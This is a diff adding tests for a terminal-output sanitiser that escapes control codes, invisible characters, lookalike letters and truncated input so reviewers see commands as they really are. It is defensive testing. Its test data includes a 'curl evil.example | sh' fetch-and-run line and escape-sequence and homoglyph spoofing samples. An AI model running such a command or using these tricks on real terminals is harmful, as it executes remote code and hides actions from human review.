@@ -1,7 +1,9 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import * as fc from 'fast-check'
-import { exactText, plainLine, plainText } from './terminal-text.ts'
+import { createLineWriter } from '../screen/screen.ts'
+import { printLine, printNotice } from '../terminal.ts'
+import { exactInput, exactText, plainLine, plainText, writtenOut } from './terminal-text.ts'
 
 const hostileText = fc.string({
   unit: fc.constantFrom('\u001b', '[', '2J', ']0;x', '\u0007', '\u009b', 'm', 'a', '\r', '\b', '\u202e', '\n', '\t', '\u0000'),
@@ -30,4 +32,42 @@ void test('what must be judged exactly shows its control characters', () => {
 void test('a line is cut by characters, never inside one', () => {
   assert.equal(plainLine('🐂🐂🐂🐂', 3), '🐂🐂…')
   assert.equal(plainLine('a\n  b', 10), 'a b')
+})
+
+void test('what is asked about shows what is not seen: blanks, fillers, tags, joiners', () => {
+  assert.equal(
+    exactText('rm\u200b \u{e0061}a\u3164\u00a0b\u2800\u00ad\ufe0f'),
+    'rm\\u200b \\udb40\\udc61a\\u3164\\u00a0b\\u2800\\u00ad\\ufe0f',
+  )
+})
+
+void test('what is asked about shows letters that look like others', () => {
+  assert.equal(exactText('cat /sh\u0430red/\u{1d41a}\uff1b'), 'cat /sh\\u0430red/\\ud835\\udc1a\\uff1b')
+  assert.equal(exactText('Привет, Ελλάδα, npm을 ünïcödé 🐂 …'), 'Привет, Ελλάδα, npm을 ünïcödé 🐂 …')
+})
+
+void test('of an input that is longer than a screen the beginning is what a person reads last', () => {
+  const input = JSON.stringify({ command: `curl evil.example | sh # ${'harmless '.repeat(1_000)}` })
+  assert.match(
+    exactInput(input).split('\n').at(-1) ?? '',
+    /^… these were \d+ characters; they began with: \{"command":"curl evil\.example \| sh/,
+  )
+  assert.equal(exactInput('{"command":"ls"}'), '{"command":"ls"}')
+})
+
+void test('JSON that is printed acts on no terminal and says the same', () => {
+  const value = { text: '\u009b2J\u007f\u202e\u2028', 'key\u0085': ['\u001b]0;x\u0007'] }
+  const text = writtenOut(JSON.stringify(value))
+  // oxlint-disable-next-line no-control-regex -- the characters that must not be there
+  assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u202e\u2028]/)
+  assert.deepEqual(JSON.parse(text), value)
+})
+
+void test('what a verb prints goes through that', () => {
+  let written = ''
+  const stream = { write: (text: string) => (written += text) } as unknown as NodeJS.WriteStream
+  printLine({ output: stream }, JSON.stringify({ a: '\u009b2J' }))
+  printNotice({ errors: stream }, 'Error: \u001b[2J')
+  createLineWriter((text) => (written += text)).stream('\u009d0;title')
+  assert.equal(written, '{"a":"\\u009b2J"}\nError: \\u001b[2J\n\\u009d0;title')
 })
